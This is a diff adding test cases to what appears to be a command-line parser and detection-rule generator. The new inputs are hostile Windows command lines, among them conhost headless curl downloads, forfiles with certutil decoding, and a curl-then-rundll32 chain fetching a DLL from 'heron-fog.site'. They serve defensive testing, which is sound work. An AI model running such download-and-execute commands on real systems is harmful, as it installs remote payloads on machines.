@@ -27,6 +27,16 @@ describe('the programs of a command line', () => {
     ['one that waits before', 'timeout /t 5 & heron.exe -a', ['heron']],
     ['one that starts another', 'sudo -u root systemctl stop herond', ['systemctl']],
     ['a script whose pipe is its own', 'powershell.exe Get-Heron -All | Out-Null', ['powershell']],
+    [
+      'one that starts another without a window',
+      'conhost.exe --headless cmd /c curl -o C:\\Perf\\h.dll x',
+      ['conhost', 'curl'],
+    ],
+    [
+      'one that starts what it quotes',
+      'forfiles /p C:\\Perf /c "cmd /c certutil -decode a b"',
+      ['forfiles', 'certutil'],
+    ],
     ['an address with an ampersand', 'curl -o h.exe https://192.0.2.7/h?a=1&b=2', ['curl']],
   ])('are read apart: %s', async (_, line, names) => {
     const commands = await commandsOf(line);
@@ -57,6 +67,17 @@ describe('the programs of a command line', () => {
       ['--nest', 'marsh'],
       ['--nest', 'cliff'],
     ]);
+  });
+
+  it('have rules however far behind in a long line they stand', async () => {
+    const rules = await rulesOf(
+      'conhost.exe --headless cmd /c curl -s http://heron-fog.site/q -o %PUBLIC%\\Perf\\heronfog.dll && rundll32 %PUBLIC%\\Perf\\heronfog.dll,FogStart',
+    );
+    const started = {
+      Image: 'C:\\Windows\\System32\\rundll32.exe',
+      CommandLine: 'rundll32 C:\\Users\\Public\\Perf\\heronfog.dll,FogStart',
+    };
+    expect(rules.some((rule) => !rule.yaml.includes('temporal') && matches(rule, started))).toBe(true);
   });
 
   it('never share a selection', async () => {
